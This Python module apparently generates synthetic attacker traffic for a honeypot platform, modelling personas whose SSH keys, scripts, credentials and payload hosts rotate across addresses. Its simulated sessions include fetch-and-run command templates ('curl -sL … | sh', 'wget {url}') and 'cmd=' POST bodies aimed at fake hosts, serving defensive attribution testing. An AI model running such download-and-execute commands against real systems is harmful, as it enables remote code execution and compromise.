# SPDX-License-Identifier: MIT
"""People: each has marks of their own, shows some of them from each address, and replaces some of them in time."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from random import Random
from typing import NamedTuple

from decnet_core.events.catalogue import (
    CanaryHit,
    CertificateProbed,
    CommandRun,
    ConnectionOpened,
    FileCaptured,
    HttpClient,
    HttpRequest,
    LoginAttempt,
    Payload,
    SessionClosed,
    SessionOpened,
    SshKex,
    TcpStack,
    TlsClient,
    TlsProbed,
)
from planted import vocabulary as words
from planted.vocabulary import Kit, Tools

DAY = 86_400_000_000_000


class Regime(NamedTuple):
    """How hard somebody is to recognise; the numbers are probabilities."""

    name: str
    shows: dict[str, float]
    """By mark, that an address shows it."""
    rotates: float
    """That a mark is replaced before the next address."""
    linked: float
    """That an address is made to show one of the personal marks that an earlier one showed."""
    varies: bool
    """Whether names in the script differ from visit to visit."""


PERSONAL = ("key", "payload", "certificate", "script", "logins", "canary")
EASY = Regime(
    "easy",
    {"key": 0.9, "script": 0.9, "logins": 0.9, "payload": 0.8, "certificate": 0.5, "canary": 0.3},
    0.02,
    1,
    False,
)
NORMAL = Regime(
    "normal",
    {"key": 0.4, "script": 0.75, "logins": 0.7, "payload": 0.6, "certificate": 0.3, "canary": 0.1},
    0.12,
    1,
    False,
)
HARD = Regime(
    "hard",
    {"key": 0.15, "script": 0.5, "logins": 0.5, "payload": 0.4, "certificate": 0.15, "canary": 0.05},
    0.35,
    0.97,
    True,
)
REGIMES = (EASY, NORMAL, HARD)


class Loader(NamedTuple):
    """A service that delivers the malware of whoever pays; its program is the same for all of them."""

    host: str
    sha256: str
    by_customer: bool
    """Whether each customer has a URL of their own."""


class Campaign(NamedTuple):
    """What several people do together."""

    name: str
    regime: Regime
    hosts: tuple[str, ...]
    """Used one after the other."""
    family: str
    """The name of its malware, of which each member has a build of their own."""
    order: tuple[int, ...]
    deckies: tuple[str, ...]
    start: int
    end: int
    hours: tuple[int, int]
    """Of the day, UTC, in which they work."""


class Marks(NamedTuple):
    """What a person can be recognised by at a time."""

    key: tuple[str, str]
    script: tuple[str, ...]
    logins: tuple[tuple[str, str], ...]
    url: str
    host: str
    sha256: str
    certificate: str
    jarm: str
    canary: str
    tools: Tools


class Lease(NamedTuple):
    """A person at an address."""

    actor: str
    address: str
    start: int
    end: int
    marks: Marks
    shown: frozenset[str]
    regime: Regime
    deckies: tuple[str, ...]
    hours: tuple[int, int]
    kit: Kit | None
    loader: tuple[str, str] | None
    """URL and SHA-256 of what a loader delivers for this customer."""
    web: bool
    """Whether the way in is HTTP."""

    def payloads(self, dice: Random) -> Iterator[Payload]:
        """Yield what one visit consists of."""
        yield from self._web(dice) if self.web else self._shell(dice)
        if "canary" in self.shown:
            yield CanaryHit(self.marks.canary, "http", f"/{self.marks.canary}", self.marks.tools.user_agent)
        if "certificate" in self.shown:
            yield CertificateProbed(self.start, self.marks.certificate, subject=f"CN={self.marks.certificate[:8]}")
            yield TlsProbed(self.start, self.marks.jarm)

    def _shell(self, dice: Random) -> Iterator[Payload]:
        tools = self.kit.tools if self.kit else self.marks.tools
        yield ConnectionOpened("ssh")
        yield stack(tools)
        yield SshKex("client", tools.ssh_software, tools.hassh, f"algorithms of {tools.hassh}")
        for user, password in dice.sample(words.public_list(dice.randrange(12))[:12], dice.randrange(3)):
            yield LoginAttempt("ssh", user, False, password=password)
        if "logins" in self.shown:
            known = self.kit.logins if self.kit else self.marks.logins
            for user, password in dice.sample(known, min(len(known), dice.randrange(2, 7))):
                yield LoginAttempt("ssh", user, False, password=password)
        if "key" in self.shown:
            yield LoginAttempt("ssh", "root", True, "publickey", public_key=self.marks.key[0])
        else:
            yield LoginAttempt("ssh", "root", True, password=dice.choice(words.COMMON_PASSWORDS))
        yield SessionOpened("ssh", "root", "xterm" if dice.random() < 0.3 else None)
        lines = tuple(self._lines(dice))
        yield from (CommandRun("ssh", line) for line in lines)
        yield from self._files("ssh")
        yield SessionClosed("ssh", dice.randrange(2_000, 90_000), len(lines))

    def _lines(self, dice: Random) -> Iterator[str]:
        if self.kit:
            lines = self.kit.lines
        elif "script" in self.shown:
            lines = self.marks.script
        elif "payload" in self.shown:
            lines = (*dice.sample(words.STOCK_RECONNAISSANCE, 2), "wget {url}")
        else:
            lines = tuple(dice.sample(words.STOCK_RECONNAISSANCE, dice.randrange(1, 5)))
        url, host = self.marks.url, self.marks.host
        if "payload" not in self.shown:
            host = dice.choice(words.FREE_HOSTS)
            url = f"https://{host}/{words.digits(dice, 12)}"
        any_text = words.digits(dice, 4) if self.regime.varies else ""
        key = self.marks.key[1] if "key" in self.shown else "ssh-rsa AAAA"
        for line in lines:
            yield line.replace("{url}", url).replace("{host}", host).replace("{any}", any_text).replace("{key}", key)
        if self.loader:
            yield f"curl -sL {self.loader[0]} | sh"

    def _files(self, service: str) -> Iterator[FileCaptured]:
        bought = (self.loader,) if self.loader else ()
        own = ((self.marks.url, self.marks.sha256),) if "payload" in self.shown else ()
        for url, sha256 in (*bought, *own):
            yield FileCaptured(service, sha256, 40_000, url.rsplit("/", 1)[-1], url)

    def _web(self, dice: Random) -> Iterator[Payload]:
        tools = self.marks.tools
        yield ConnectionOpened("http")
        yield stack(tools)
        yield TlsClient("tcp", hashlib.md5(tools.ja4.encode()).hexdigest(), tools.ja4, 0x0303)
        yield HttpClient("GET", "HTTP/1.1", "other", tools.headers, ("Host", "User-Agent"), tools.user_agent)
        for path in dice.sample(words.PATHS, dice.randrange(1, 4)):
            yield HttpRequest("GET", path, user_agent=tools.user_agent, status=404)
        if "logins" in self.shown:
            for user, password in dice.sample(self.marks.logins, min(3, len(self.marks.logins))):
                yield LoginAttempt("http", user, False, password=password)
        for line in self._lines(dice):
            body = f"cmd={line}"
            digest = hashlib.sha256(body.encode()).hexdigest()
            size = len(body)
            yield HttpRequest(
                "POST",
                "/cgi-bin/test.cgi",
                user_agent=tools.user_agent,
                status=200,
                body=body,
                body_bytes=size,
                body_sha256=digest,
            )
        yield from self._files("http")


def stack(tools: Tools) -> TcpStack:
    signature, muonfp, system = tools.stack
    return TcpStack("syn", signature, muonfp, system or None, "exact" if system else None)


def leases(dice: Random, name: str, regime: Regime, campaign: Campaign | None, scene: Scene) -> Iterator[Lease]:
    """Yield the addresses of one person, one after the other, with what each of them shows."""
    marks = marks_of(dice, campaign, scene.start)
    kit = dice.choice(scene.kits) if dice.random() < 0.15 else None
    loader = customer(dice, scene.loaders) if dice.random() < 0.2 else None
    deckies = campaign.deckies if campaign else tuple(dice.sample(words.DECKIES, dice.randrange(2, 12)))
    hours = campaign.hours if campaign else (dice.randrange(24), dice.randrange(3, 14))
    web = kit is None and dice.random() < 0.2
    personal = set(PERSONAL) - ({"script", "logins"} if kit else {"key"} if web else set())
    seen, moment = set[str](), scene.start
    for address in scene.addresses:
        shown = {mark for mark, chance in regime.shows.items() if dice.random() < chance}
        if seen and not shown & seen and dice.random() < regime.linked:
            shown.add(dice.choice(sorted(seen)))
        length = int(dice.uniform(0.5, 8) * DAY)
        bought = loader if dice.random() < 0.5 else None
        end = min(moment + length, scene.end)
        yield Lease(name, address, moment, end, marks, frozenset(shown), regime, deckies, hours, kit, bought, web)
        moment = min(int(moment + length * dice.uniform(0.4, 1.3)), scene.end - DAY // 4)
        marks, kept = rotated(dice, marks, marks_of(dice, campaign, moment), regime.rotates)
        seen = (seen | shown) & personal & kept


class Scene(NamedTuple):
    """Where and when somebody acts, and what can be bought."""

    addresses: list[str]
    start: int
    end: int
    kits: tuple[Kit, ...]
    loaders: tuple[Loader, ...]


def customer(dice: Random, loaders: tuple[Loader, ...]) -> tuple[str, str]:
    """Return the URL and the hash of what a loader delivers for a new customer."""
    one = dice.choice(loaders)
    return f"http://{one.host}/get{f'?c={words.digits(dice, 6)}' if one.by_customer else ''}", one.sha256


def marks_of(dice: Random, campaign: Campaign | None, moment: int) -> Marks:
    """Return new marks; in a campaign, its host of that time and its family, and all else a person's own."""
    host, path = words.hostname(dice), f"{words.word(dice)}/{words.word(dice, 2)}"
    order = words.plan(dice)
    if campaign is not None:
        order = campaign.order
        path = f"{campaign.family}/{words.word(dice, 2)}.sh"
        if campaign.regime is not HARD:
            share = (moment - campaign.start) / max(1, campaign.end - campaign.start)
            place = min(len(campaign.hosts) - 1, max(0, int(share * len(campaign.hosts))))
            host = campaign.hosts[place if dice.random() < 0.7 else max(0, place - 1)]
    return Marks(
        words.public_key(dice),
        words.script(dice, order),
        words.private_logins(dice),
        f"http://{host}/{path}",
        host,
        words.digits(dice, 64),
        words.digits(dice, 64),
        dice.choice(words.DEFAULT_JARMS) if dice.random() < 0.6 else words.digits(dice, 62),
        words.digits(dice, 24),
        words.own_tools(dice),
    )


def rotated(dice: Random, old: Marks, new: Marks, chance: float) -> tuple[Marks, set[str]]:
    """Return the marks with some replaced, never all, and the names of the personal ones that were kept."""
    groups = {
        "key": ("key",),
        "script": ("script",),
        "logins": ("logins",),
        "payload": ("url", "host", "sha256"),
        "certificate": ("certificate", "jarm"),
        "canary": ("canary",),
        "tools": ("tools",),
    }
    gone = [name for name in groups if dice.random() < chance]
    if len(gone) > 4:
        gone = dice.sample(gone, 4)
    fields = [field for name in gone for field in groups[name]]
    return old._replace(**{field: getattr(new, field) for field in fields}), set(PERSONAL) - set(gone)
